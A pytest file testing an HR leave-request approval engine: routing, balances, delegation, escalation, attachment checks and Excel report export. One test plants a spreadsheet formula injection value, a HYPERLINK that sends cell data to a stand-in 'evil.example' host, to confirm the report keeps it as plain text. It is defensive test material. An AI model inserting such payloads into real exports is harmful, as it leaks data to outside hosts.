"""Leave requests through the approval engine, on the demo company (SQLite)."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from PIL import Image
from sqlmodel import select

from selfservice.domain.errors import DomainError, NotPermitted, ValidationFailed
from selfservice.persistence import filestore
from selfservice.persistence.models import ApprovalStep, LeaveLedgerEntry, LeaveRequest, NotificationMessage
from selfservice.services import approvals, leave_balances, leave_requests
from tests.helpers import actor_for, audit_count, same_leave_facts

MON, TUE, WED = date(2026, 11, 30), date(2026, 12, 1), date(2026, 12, 2)


@pytest.fixture
def company(demo, now):
    leave_balances.ensure_default_types(demo)
    same_leave_facts(demo)
    leave_balances.accrue_year(demo, actor_for(demo, "hr01"), 2026, now)
    demo.commit()
    return demo


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 80, 80)).save(buffer, "JPEG")
    return buffer.getvalue()


def file(session, who, start=MON, end=TUE, kind="annual", now=None, reason="family trip", staged=(), halves=("am", "pm")):
    return leave_requests.submit(session, actor_for(session, who), kind, start, halves[0], end, halves[1], reason, list(staged), now)


def pending_step(session, request_id, workflow="leave"):
    return next(i for i in approvals_for(session, request_id, workflow) if i.status == "pending")


def approvals_for(session, request_id, workflow="leave"):
    from selfservice.persistence.models import ApprovalInstance

    instance = session.exec(
        select(ApprovalInstance).where(ApprovalInstance.subject_id == request_id, ApprovalInstance.workflow == workflow)
    ).first()
    return session.exec(select(ApprovalStep).where(ApprovalStep.instance_id == instance.id).order_by(ApprovalStep.id)).all()


def balance(session, who, year=2026):
    return leave_balances.balance_of(session, actor_for(session, who).employee_id, "annual", year)


def test_request_is_routed_to_the_manager_reserves_days_and_uses_them_on_approval(company, now):
    request_id = file(company, "E1004", now=now)
    preview = leave_requests.preview(company, actor_for(company, "E1004"), "annual", WED, "am", WED, "am")
    assert preview.days == "0.5" and preview.balance == "3" and preview.balance_after == "2.5", "5 granted, 2 reserved"
    [item] = approvals.pending_for(company, actor_for(company, "E1002"))
    assert item.subject_id == request_id and item.requester == "张伟"
    inbox = leave_requests.inbox(company, actor_for(company, "E1002"), now)
    assert inbox[0].balance_after == "3"
    told = company.exec(
        select(NotificationMessage).where(NotificationMessage.recipient_id == actor_for(company, "E1002").employee_id)
    ).all()
    assert any("张伟" in m.title for m in told)
    assert approvals.decide(company, actor_for(company, "E1002"), item.step_id, True, "", now) == "approved"
    assert company.get(LeaveRequest, request_id).status == "approved"
    assert balance(company, "E1004") == Decimal(3)
    decided = company.exec(
        select(NotificationMessage).where(
            NotificationMessage.recipient_id == actor_for(company, "E1004").employee_id, NotificationMessage.template == "approval.approved"
        )
    ).all()
    assert len(decided) == 1
    peers = company.exec(select(NotificationMessage).where(NotificationMessage.template == "leave.fyi")).all()
    recipients = {m.recipient_id for m in peers}
    assert actor_for(company, "E1005").employee_id in recipients and actor_for(company, "hr01").employee_id in recipients
    assert actor_for(company, "E1004").employee_id not in recipients


@pytest.mark.parametrize(
    ("kwargs", "key"),
    [
        ({"start": TUE, "end": MON}, "leave.end_before_start"),
        ({"start": MON, "end": MON, "halves": ("pm", "am")}, "leave.half_order"),
        ({"start": date(2026, 12, 5), "end": date(2026, 12, 6)}, "leave.no_workdays"),
        ({"start": MON, "end": date(2026, 12, 11)}, "leave.over_balance"),
        ({"kind": "sick"}, "leave.attachment_required"),
        ({"start": date(2026, 9, 1), "end": date(2026, 9, 1)}, "leave.too_far_past"),
        ({"reason": "  "}, "leave.reason_missing"),
        ({"kind": "unknown"}, "leave.unknown_type"),
    ],
)
def test_bad_requests_are_refused_and_nothing_is_written(company, now, kwargs, key):
    before = audit_count(company), len(company.exec(select(LeaveRequest)).all())
    with pytest.raises(ValidationFailed) as refused:
        file(company, "E1004", now=now, **kwargs)
    company.rollback()
    assert refused.value.key == key
    assert (audit_count(company), len(company.exec(select(LeaveRequest)).all())) == before


def test_overlap_counts_half_days(company, now):
    file(company, "E1004", start=MON, end=MON, halves=("am", "am"), now=now)
    file(company, "E1004", start=MON, end=MON, halves=("pm", "pm"), now=now)
    with pytest.raises(ValidationFailed) as refused:
        file(company, "E1004", start=date(2026, 11, 27), end=MON, halves=("am", "am"), now=now)
    assert refused.value.key == "leave.overlap"


def test_the_state_machine_refuses_illegal_decisions(company, now):
    request_id = file(company, "E1004", now=now)
    step = pending_step(company, request_id)
    with pytest.raises(NotPermitted):
        approvals.decide(company, actor_for(company, "E1004"), step.id, True, "", now)
    with pytest.raises(NotPermitted):
        approvals.decide(company, actor_for(company, "E1003"), step.id, True, "", now)
    with pytest.raises(ValidationFailed) as refused:
        approvals.decide(company, actor_for(company, "E1002"), step.id, False, "  ", now)
    assert refused.value.key == "approval.comment_required"
    approvals.decide(company, actor_for(company, "E1002"), step.id, False, "project deadline", now)
    with pytest.raises(DomainError) as again:
        approvals.decide(company, actor_for(company, "E1002"), step.id, True, "", now)
    assert again.value.key == "approval.already_decided"
    assert company.get(LeaveRequest, request_id).status == "rejected"
    assert balance(company, "E1004") == Decimal(5), "a rejected request uses nothing"


def test_long_requests_add_the_department_head_and_hr_types_add_hr(company, now):
    hr = actor_for(company, "hr01")
    approvals.save_policy(company, hr, "leave", "3", "24", now)
    request_id = file(company, "E1004", start=MON, end=date(2026, 12, 3), now=now)
    steps = approvals_for(company, request_id)
    assert [(s.rule, s.status) for s in steps] == [("manager", "pending"), ("dept_head", "waiting")]
    approvals.decide(company, actor_for(company, "E1002"), steps[0].id, True, "ok", now)
    assert approvals.pending_for(company, actor_for(company, "E1001"))[0].subject_id == request_id
    approvals.decide(company, actor_for(company, "E1001"), steps[1].id, True, "", now)
    assert company.get(LeaveRequest, request_id).status == "approved"

    settings = {t.code: t for t in leave_balances.type_settings(company, hr)}["personal"]
    leave_balances.save_type(company, hr, settings.__class__(**{**settings.__dict__, "hr_must_approve": True}), now)
    request_id = file(company, "E1007", kind="personal", now=now)
    assert [(s.rule, s.pool) for s in approvals_for(company, request_id)] == [("manager", ""), ("hr", "hr")]


def test_a_managers_own_request_goes_up_and_a_head_without_manager_goes_to_hr(company, now):
    request_id = file(company, "E1002", now=now)
    assert approvals_for(company, request_id)[0].approver_id == actor_for(company, "E1001").employee_id
    request_id = file(company, "E1001", now=now)
    assert [(s.rule, s.pool) for s in approvals_for(company, request_id)] == [("hr", "hr")]
    with pytest.raises(NotPermitted):
        approvals.decide(company, actor_for(company, "E1001"), approvals_for(company, request_id)[0].id, True, "", now)
    approvals.decide(company, actor_for(company, "hr02"), approvals_for(company, request_id)[0].id, True, "", now)


def test_delegation_routes_new_items_and_the_trail_says_on_whose_behalf(company, now):
    manager = actor_for(company, "E1002")
    approvals.delegate(company, manager, "E1003", date(2026, 11, 25), date(2026, 12, 5), now)
    request_id = file(company, "E1005", now=now)
    [item] = approvals.pending_for(company, actor_for(company, "E1003"))
    assert item.acting and item.approver == "李明"
    approvals.decide(company, actor_for(company, "E1003"), item.step_id, True, "ok", now)
    [step] = leave_requests.request_for(company, actor_for(company, "E1005"), request_id, now).trail
    assert (step.decided_by, step.on_behalf_of) == ("王芳", "李明")
    with pytest.raises(ValidationFailed):
        approvals.delegate(company, manager, "E1002", date(2026, 12, 10), date(2026, 12, 11), now)
    with pytest.raises(ValidationFailed) as overlap:
        approvals.delegate(company, manager, "E1001", date(2026, 12, 1), date(2026, 12, 11), now)
    assert overlap.value.key == "approval.delegation_overlap"


def test_an_approver_on_leave_has_items_routed_to_their_manager(company, now):
    own = file(company, "E1002", start=date(2026, 11, 25), end=date(2026, 11, 27), now=now)
    approvals.decide(company, actor_for(company, "E1001"), pending_step(company, own).id, True, "", now)
    request_id = file(company, "E1006", now=now)
    step = approvals_for(company, request_id)[0]
    assert (step.approver_id, step.acting_id) == (actor_for(company, "E1002").employee_id, actor_for(company, "E1001").employee_id)


def test_undecided_items_are_reminded_once_then_escalated_after_working_hours(company):
    friday = datetime(2026, 11, 27, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
    request_id = file(company, "E1004", now=friday)
    step = pending_step(company, request_id)
    assert step.due_at == datetime(2026, 11, 30, 2, 0, tzinfo=UTC), "24 working hours skip the weekend"
    system = actor_for(company, "admin")
    assert approvals.escalate_due(company, system, friday + timedelta(days=2)) == (0, 0)
    assert approvals.escalate_due(company, system, datetime(2026, 11, 30, 3, 0, tzinfo=UTC)) == (1, 0)
    assert approvals.escalate_due(company, system, datetime(2026, 11, 30, 4, 0, tzinfo=UTC)) == (0, 0), "reminded once"
    assert approvals.escalate_due(company, system, datetime(2026, 12, 1, 3, 0, tzinfo=UTC)) == (0, 1)
    steps = approvals_for(company, request_id)
    assert [(s.rule, s.status) for s in steps] == [("manager", "escalated"), ("escalated", "pending")]
    assert steps[1].approver_id == actor_for(company, "E1001").employee_id
    escalated = company.exec(select(NotificationMessage).where(NotificationMessage.template == "approval.escalated")).one()
    assert "李明" in escalated.body and escalated.recipient_id == steps[1].approver_id
    with pytest.raises(DomainError):
        approvals.decide(company, actor_for(company, "E1002"), steps[0].id, True, "", datetime(2026, 12, 1, 4, tzinfo=UTC))


def test_withdraw_and_cancel_an_approved_future_leave(company, now):
    request_id = file(company, "E1004", now=now)
    leave_requests.withdraw(company, actor_for(company, "E1004"), request_id, now)
    assert company.get(LeaveRequest, request_id).status == "withdrawn"
    assert approvals.pending_for(company, actor_for(company, "E1002")) == []
    with pytest.raises(ValidationFailed):
        leave_requests.withdraw(company, actor_for(company, "E1004"), request_id, now)

    request_id = file(company, "E1004", now=now)
    with pytest.raises(NotPermitted):
        leave_requests.withdraw(company, actor_for(company, "E1005"), request_id, now)
    approvals.decide(company, actor_for(company, "E1002"), pending_step(company, request_id).id, True, "", now)
    assert balance(company, "E1004") == Decimal(3)
    leave_requests.request_cancel(company, actor_for(company, "E1004"), request_id, now)
    assert company.get(LeaveRequest, request_id).status == "cancel_pending"
    step = pending_step(company, request_id, "leave_cancel")
    approvals.decide(company, actor_for(company, "E1002"), step.id, True, "", now)
    assert company.get(LeaveRequest, request_id).status == "cancelled"
    assert balance(company, "E1004") == Decimal(5)
    kinds = company.exec(select(LeaveLedgerEntry.days).where(LeaveLedgerEntry.kind == "usage")).all()
    assert sorted(kinds) == [Decimal(-2), Decimal(2)], "usage and its reversal, nothing overwritten"


def test_attachments_are_checked_by_content_and_served_only_to_those_involved(company, now):
    employee = actor_for(company, "E1004")
    with pytest.raises(ValidationFailed) as disguised:
        leave_requests.stage_attachment(employee, b"MZ\x90\x00" + b"\x00" * 200, "sick-note.pdf")
    assert disguised.value.key == "attachment.type_not_allowed"
    with pytest.raises(ValidationFailed) as broken:
        leave_requests.stage_attachment(employee, b"%PDF-1.4\n" + b"x" * 100, "note.pdf")
    assert broken.value.key == "attachment.damaged"
    checked = leave_requests.stage_attachment(employee, jpeg(), "IMG_0001.JPG")
    assert checked.content_type == "image/jpeg"
    request_id = file(company, "E1004", kind="sick", now=now, staged=[(checked.sha256, checked.name)])
    view = leave_requests.request_for(company, employee, request_id, now)
    [attachment] = view.attachments
    for who in ("E1004", "E1002", "hr01"):
        link = leave_requests.attachment_link(attachment.id, actor_for(company, who), now)
        query = dict(part.split("=") for part in link.split("?")[1].split("&"))
        data, content_type, _ = leave_requests.open_attachment(company, attachment.id, int(query["a"]), int(query["e"]), query["m"], now)
        assert content_type == "image/jpeg" and data == jpeg()
    stranger = actor_for(company, "E1005")
    link = leave_requests.attachment_link(attachment.id, stranger, now)
    query = dict(part.split("=") for part in link.split("?")[1].split("&"))
    with pytest.raises(NotPermitted):
        leave_requests.open_attachment(company, attachment.id, int(query["a"]), int(query["e"]), query["m"], now)
    with pytest.raises(NotPermitted):
        leave_requests.request_for(company, stranger, request_id, now)
    owner = leave_requests.attachment_link(attachment.id, employee, now)
    query = dict(part.split("=") for part in owner.split("?")[1].split("&"))
    with pytest.raises(NotPermitted):
        leave_requests.open_attachment(company, attachment.id, int(query["a"]), int(query["e"]), query["m"], now + timedelta(hours=1))
    with pytest.raises(NotPermitted):
        leave_requests.open_attachment(company, attachment.id, int(query["a"]), int(query["e"]), "0" * 32, now)


def test_oversized_attachment_is_refused(company, monkeypatch):
    monkeypatch.setenv("SELFSERVICE_ATTACHMENT_MAX_BYTES", "500")
    from selfservice.settings import get_settings

    get_settings.cache_clear()
    with pytest.raises(ValidationFailed) as refused:
        leave_requests.stage_attachment(actor_for(company, "E1004"), jpeg() + b"\x00" * 600, "big.jpg")
    assert refused.value.key == "attachment.too_large"


def test_calendar_scope_and_report(company, now):
    file(company, "E1004", now=now)
    request_id = file(company, "E2004", now=now)
    approvals.decide(company, actor_for(company, "E2002"), pending_step(company, request_id).id, True, "", now)
    assert [a.employee for a in leave_requests.absences(company, actor_for(company, "E1002"), MON, WED)] == ["张伟"]
    assert len(leave_requests.absences(company, actor_for(company, "hr01"), MON, WED)) == 2
    with pytest.raises(NotPermitted):
        leave_requests.absences(company, actor_for(company, "E1004"), MON, WED)
    rows = {(r[0], r[3]): r for r in leave_requests.report_rows(company, actor_for(company, "hr01"), 2026)}
    assert rows[("E2004", "年假")][5:] == (5.0, 2.0, 3.0, 0.0)
    assert rows[("E1004", "年假")][8] == 2.0
    data = leave_requests.report_xlsx(company, actor_for(company, "hr01"), 2026, "en", now)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "No." and sheet.max_row >= 3
    footer = sheet.cell(row=sheet.max_row, column=1).value
    assert "+00:00" not in footer and "17:00:00" in footer  # 09:00 UTC shown in the company's time zone, not raw UTC
    with pytest.raises(NotPermitted):
        leave_requests.report_rows(company, actor_for(company, "E1002"), 2026)


def test_a_name_that_looks_like_a_formula_stays_text_in_the_leave_report(company, now):
    """Issue 14, item 4: "=HYPERLINK(…)" as a name must not become a live formula in HR's Excel."""
    from openpyxl import load_workbook

    from selfservice.persistence.models import Employee

    person = company.exec(select(Employee).where(Employee.employee_no == "E1004")).one()
    person.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    company.add(person)
    company.commit()
    file(company, "E1004", now=now)
    data = leave_requests.report_xlsx(company, actor_for(company, "hr01"), 2026, "en", now)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw  # no formula anywhere in the sheet


def test_one_decision_covers_consecutive_steps_of_the_same_approver(company):
    friday = datetime(2026, 11, 27, 2, 0, tzinfo=UTC)
    request_id = file(company, "E1004", start=MON, end=date(2026, 12, 3), now=friday)  # 4 days: manager, then department head
    system = actor_for(company, "admin")
    approvals.escalate_due(company, system, datetime(2026, 11, 30, 3, 0, tzinfo=UTC))
    approvals.escalate_due(company, system, datetime(2026, 12, 1, 3, 0, tzinfo=UTC))
    head = actor_for(company, "E1001")
    [item] = approvals.pending_for(company, head)
    assert approvals.decide(company, head, item.step_id, True, "ok", datetime(2026, 12, 1, 4, tzinfo=UTC)) == "approved"
    assert [(s.rule, s.status) for s in approvals_for(company, request_id)] == [
        ("manager", "escalated"),
        ("dept_head", "approved"),
        ("escalated", "approved"),
    ]
    assert company.get(LeaveRequest, request_id).status == "approved"


def test_unused_uploads_are_purged_after_a_day_and_submitted_ones_never(company, now):
    import os

    employee = actor_for(company, "E1004")
    used = leave_requests.stage_attachment(employee, jpeg(), "note.jpg")
    file(company, "E1004", kind="sick", now=now, staged=[(used.sha256, used.name)])
    buffer = io.BytesIO()
    Image.new("RGB", (10, 10), (1, 2, 3)).save(buffer, "PNG")
    abandoned = leave_requests.stage_attachment(employee, buffer.getvalue(), "abandoned.png")
    old = (now - timedelta(days=3)).timestamp()
    store = filestore.store()
    for checked in (used, abandoned):
        os.utime(store._path(checked.sha256), (old, old))  # noqa: SLF001
    assert leave_requests.purge_staged(company, now - timedelta(days=1)) == 1
    assert store.exists(used.sha256) and not store.exists(abandoned.sha256)


def test_of_two_approvers_deciding_at_once_the_second_is_refused_cleanly(company, now, db_url, monkeypatch, engine):
    from sqlmodel import Session

    if engine == "postgresql":
        pytest.skip("the race is staged in one thread; on PostgreSQL the first decision's row lock makes the second wait (a deadlock here)")

    from selfservice.domain import approvals as engine_rules
    from selfservice.persistence.db import engine_for

    approvals.delegate(company, actor_for(company, "E1002"), "E1003", date(2026, 11, 25), date(2026, 12, 5), now)
    request_id = file(company, "E1005", now=now)
    company.commit()
    step_id = pending_step(company, request_id).id
    check = engine_rules.check_decision
    raced = []

    def check_then_the_other_decides(step, *args):  # noqa: ANN001, ANN002
        check(step, *args)
        if not raced:  # the manager's own decision lands between the delegate's read and write
            raced.append(True)
            with Session(engine_for(db_url)) as other:
                approvals.decide(other, actor_for(other, "E1002"), step_id, True, "", now)
                other.commit()

    monkeypatch.setattr(engine_rules, "check_decision", check_then_the_other_decides)
    with pytest.raises(DomainError) as refused:
        approvals.decide(company, actor_for(company, "E1003"), step_id, False, "no", now)
    assert refused.value.key == "approval.already_decided"
    company.rollback()
    company.expire_all()
    assert company.get(ApprovalStep, step_id).decided_by == actor_for(company, "E1002").employee_id
    assert company.get(LeaveRequest, request_id).status == "approved"
